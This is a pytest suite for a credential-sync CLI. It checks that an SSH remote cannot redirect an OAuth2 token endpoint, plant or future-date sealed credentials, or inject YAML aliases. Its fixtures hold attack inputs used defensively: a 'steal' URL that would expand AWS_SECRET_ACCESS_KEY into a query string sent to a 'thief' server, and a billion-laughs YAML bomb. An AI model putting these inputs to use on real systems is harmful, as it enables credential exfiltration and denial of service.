"""What a remote is trusted with (issue 25, item 1): a pull touches only the providers exchanged with that
remote; changes to where a credential may go need a person's yes at a terminal; planted, unsealed or
future-dated files are refused. Against a real sshd on 127.0.0.1 and real OAuth2 / HTTP servers."""

from __future__ import annotations

import base64
import json
import os
import stat
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from harness import sshd
from harness.servers import ServerHandle
from harness.sigproc import Sig
from harness.terminal import on_pty

pytestmark = pytest.mark.skipif(not sshd.available(), reason="OpenSSH server not installed")

CI_TOKEN = "tok-CI-TRUST-5e6f7a8b"
CORP_SECRET = "cs-CORP-TRUST-91a2b3c4"
AWS_SECRET = "aws-SECRET-TRUST-0d1e2f3a"


@pytest.fixture
def oauth() -> Iterator[object]:
    pytest.importorskip("authlib")
    from harness.oauth_server import OAuthServer

    with OAuthServer() as srv:
        srv.add_client("corp-client", CORP_SECRET)
        yield srv


@pytest.fixture
def thief(http_echo: ServerHandle) -> ServerHandle:
    """The remote's own server: it must never receive anything."""
    return http_echo


@pytest.fixture
def remote_home(tmp_path: Path) -> Path:
    return tmp_path / "remote" / ".sig"


@pytest.fixture
def local(sig_init: Sig, ssh_server: sshd.SshServer, remote_home: Path, oauth: object) -> Sig:
    """A machine with `ci` (API token) and `corp` (OAuth2 client credentials, renewing soon), which gave
    the remote `box` only `ci`."""
    ssh_server.add_remote(sig_init, "box", remote_home)
    sig_init("login", "https://ci.example.com", "--token-stdin", "--as", "ci", input=CI_TOKEN, check=0)
    oauth.token_lifetime = 30  # type: ignore[attr-defined]  # due for renewal at the next watch pass
    sig_init("login", f"{oauth.url}/", "--as", "corp", "--strategy", "oauth2",  # type: ignore[attr-defined]
             "--token-url", oauth.token_url, "--client-id", "corp-client",  # type: ignore[attr-defined]
             "--client-secret-stdin", input=CORP_SECRET, check=0)
    oauth.token_lifetime = 3600  # type: ignore[attr-defined]
    sig_init("watch", "add", "corp", check=0)
    r = sig_init("sync", "push", "box", "--provider", "ci", check=0)
    assert r.json()["pushed"] == ["ci"]
    return sig_init


def _remote_rewrites_corp(local: Sig, remote_home: Path, thief: ServerHandle) -> str:
    """The remote adds its copy of `corp`, identical but for the token endpoint: the thief's, with a
    variable in the query for sig to expand."""
    from ruamel.yaml import YAML

    url = f"{thief.url}/steal?k=${{AWS_SECRET_ACCESS_KEY}}"
    yaml = YAML()
    mine = yaml.load((local.home / "config.yaml").read_text())
    theirs = yaml.load((remote_home / "config.yaml").read_text())
    corp = mine["providers"]["corp"]
    corp["oauth2"]["tokenUrl"] = url
    theirs["providers"]["corp"] = corp
    with open(remote_home / "config.yaml", "w") as fh:
        yaml.dump(theirs, fh)
    return url


def _seal_on_remote(remote_home: Path, name: str, payload: dict[str, object]) -> None:
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    key = base64.b64decode((remote_home / "encryption.key").read_text())
    iv = os.urandom(12)
    sealed = AESGCM(key).encrypt(iv, json.dumps(payload).encode(), None)
    envelope = {"version": 1, "encrypted": True, "algorithm": "aes-256-gcm", "iv": base64.b64encode(iv).decode(),
                "authTag": base64.b64encode(sealed[-16:]).decode(),
                "ciphertext": base64.b64encode(sealed[:-16]).decode()}
    (remote_home / "credentials" / name).write_text(json.dumps(envelope))


def _watch_once(local: Sig) -> object:
    return local("watch", "start", "--once", "--format", "json", env={"AWS_SECRET_ACCESS_KEY": AWS_SECRET}, check=0)


def test_pull_does_not_let_the_remote_rewrite_a_provider_it_was_never_given(
        local: Sig, remote_home: Path, oauth: object, thief: ServerHandle) -> None:
    """The issue's scenario: given only `ci`, the remote points `corp`'s token endpoint at itself."""
    _remote_rewrites_corp(local, remote_home, thief)
    before = (local.home / "config.yaml").read_text()
    r = local("sync", "pull", "box", check=0)
    count = oauth.count()  # type: ignore[attr-defined]
    _watch_once(local)
    assert thief.requests == []  # corp's client id and secret and the variable never reach the remote's server
    assert oauth.count() == count + 1  # type: ignore[attr-defined]  # corp was renewed, at its own endpoint
    assert (local.home / "config.yaml").read_text() == before
    assert r.json()["notExchanged"] == ["corp"] and r.json()["configSynced"]["providers"] == []
    assert "--provider corp" in r.err  # says how to take it, if the user wants to
    local.assert_no_secret(CORP_SECRET, AWS_SECRET)


def test_explicit_pull_of_a_changed_destination_is_refused_off_a_terminal(
        local: Sig, remote_home: Path, thief: ServerHandle) -> None:
    url = _remote_rewrites_corp(local, remote_home, thief)
    before = (local.home / "config.yaml").read_text()
    r = local("sync", "pull", "box", "--provider", "corp", check=1)
    assert "SYNC_CONFLICT" in r.err or "not pulled" in r.err
    assert "corp" in r.err and "oauth2.tokenUrl" in r.err
    assert r.json()["refused"] == [{"provider": "corp", "fields": ["oauth2.tokenUrl"]}]
    assert (local.home / "config.yaml").read_text() == before
    assert url not in (local.home / "config.yaml").read_text()
    _watch_once(local)
    assert thief.requests == []
    # --force is about timestamps, never about trust
    local("sync", "pull", "box", "--provider", "corp", "--force", check=1)
    assert (local.home / "config.yaml").read_text() == before
    local.assert_no_secret(CORP_SECRET, AWS_SECRET)


def test_a_person_at_a_terminal_sees_the_change_and_decides(
        local: Sig, remote_home: Path, thief: ServerHandle) -> None:
    url = _remote_rewrites_corp(local, remote_home, thief)
    before = (local.home / "config.yaml").read_text()
    code, out, screen = on_pty(local, ["sync", "pull", "box", "--provider", "corp"], answer="n",
                               prompt=b"[y/N]", capture_stdout=True, timeout=60)
    assert code == 0, screen
    assert "oauth2.tokenUrl" in screen and url in screen and "here:" in screen
    assert CORP_SECRET not in screen
    assert json.loads(out)["refused"][0]["provider"] == "corp"
    assert (local.home / "config.yaml").read_text() == before
    code, out, screen = on_pty(local, ["sync", "pull", "box", "--provider", "corp"], answer="y",
                               prompt=b"[y/N]", capture_stdout=True, timeout=60)
    assert code == 0, screen
    assert json.loads(out)["configSynced"]["providers"] == ["corp"]
    assert url in (local.home / "config.yaml").read_text()


def test_planted_unsealed_and_future_dated_files_are_refused(local: Sig, remote_home: Path) -> None:
    def payload(pid: str, token: str, updated: str = "2026-01-01T00:00:00.000Z") -> dict[str, object]:
        return {"version": 2, "providerId": pid, "strategy": "api-token", "updatedAt": updated,
                "values": {"token": token}}

    corp_before = (local.home / "credentials" / "corp.json").read_bytes()
    # ci.json on the remote holding a credential for corp (a provider the remote never got)
    _seal_on_remote(remote_home, "ci.json", payload("corp", "tok-PLANTED", "2099-01-01T00:00:00.000Z"))
    r = local("sync", "pull", "box", check=1)
    assert r.json()["errors"][0]["provider"] == "ci" and "refused" in r.json()["errors"][0]["error"]
    assert (local.home / "credentials" / "corp.json").read_bytes() == corp_before
    # a credential for a provider the remote was never given is not taken, sealed or not
    _seal_on_remote(remote_home, "corp.json", payload("corp", "tok-PLANTED-2"))
    # an unsealed file
    (remote_home / "credentials" / "ci.json").write_text(json.dumps(payload("ci", "tok-PLAINTEXT")))
    r = local("sync", "pull", "box", check=1)
    assert "not sealed" in r.json()["errors"][0]["error"] and r.json()["pulled"] == []
    assert (local.home / "credentials" / "corp.json").read_bytes() == corp_before
    assert local("get", "ci", "--format", "value", "--no-redaction", check=0).out.strip() == f"Bearer {CI_TOKEN}"
    # a date far in the future is not believed (it would win every later comparison)
    far = "2999-01-01T00:00:00.000Z"
    _seal_on_remote(remote_home, "ci.json", payload("ci", "tok-FROM-THE-FUTURE", far))
    r = local("sync", "pull", "box", check=1)
    assert "future" in r.json()["errors"][0]["error"]
    assert local("get", "ci", "--format", "value", "--no-redaction", check=0).out.strip() == f"Bearer {CI_TOKEN}"
    # --force takes it, dated now; the same file pulled again is "unchanged", not an error
    local("sync", "pull", "box", "--force", check=0)
    stored = local("get", "ci", "--format", "value", "--no-redaction", check=0).out.strip()
    assert stored == "Bearer tok-FROM-THE-FUTURE"
    assert local("sync", "pull", "box", check=0).json()["unchanged"] == ["ci"]
    # the next credential made anywhere wins again: on the remote (pull) ...
    soon = time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(time.time() + 2))
    _seal_on_remote(remote_home, "ci.json", payload("ci", "tok-NEXT-ON-REMOTE", soon))
    assert local("sync", "pull", "box", check=0).json()["pulled"] == ["ci"]
    # ... and here (push: the remote's far-future date does not make its copy look newer than ours)
    _seal_on_remote(remote_home, "ci.json", payload("ci", "tok-FROM-THE-FUTURE", far))
    local("login", "ci", "--token-stdin", input=CI_TOKEN, check=0)
    assert local("sync", "push", "box", "--provider", "ci", check=0).json()["pushed"] == ["ci"]


def test_the_record_is_local_private_and_forgotten_with_the_remote(local: Sig) -> None:
    record = local.home / "sync" / "exchanged.json"
    data = json.loads(record.read_text())
    assert data["remotes"]["box"]["providers"] == ["ci"]
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    assert stat.S_IMODE(record.parent.stat().st_mode) == 0o700
    local("remote", "remove", "box", check=0)
    assert "box" not in json.loads(record.read_text())["remotes"]


def test_a_remote_config_with_yaml_aliases_is_refused(local: Sig, remote_home: Path) -> None:
    cfg = remote_home / "config.yaml"
    bomb = "".join(f"x{i}: &x{i} [{', '.join([f'*x{i - 1}'] * 9)}]\n" for i in range(1, 9))
    cfg.write_text("lol: &x0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + bomb + cfg.read_text())
    before = (local.home / "config.yaml").read_text()
    r = local("sync", "pull", "box", "--provider", "ci", timeout=30, check=0)
    assert "anchor" in r.json()["configSynced"]["error"] and "line 1" in r.json()["configSynced"]["error"]
    assert (local.home / "config.yaml").read_text() == before


def test_a_new_provider_named_on_pull_may_not_take_another_providers_hosts(local: Sig, remote_home: Path) -> None:
    cfg = remote_home / "config.yaml"
    cfg.write_text(cfg.read_text() + "  ci-mirror:\n    domains: [ci.example.com]\n    strategy: api-token\n"
                   "  tools:\n    domains: [tools.example.com]\n    strategy: api-token\n")
    r = local("sync", "pull", "box", "--provider", "ci-mirror,tools", check=1)
    assert r.json()["refused"] == [{"provider": "ci-mirror", "fields": ["domains, shared with ci"]}]
    assert r.json()["configSynced"]["providers"] == ["tools"]  # a new provider on its own hosts is taken
    text = (local.home / "config.yaml").read_text()
    assert "ci-mirror" not in text and "tools:" in text
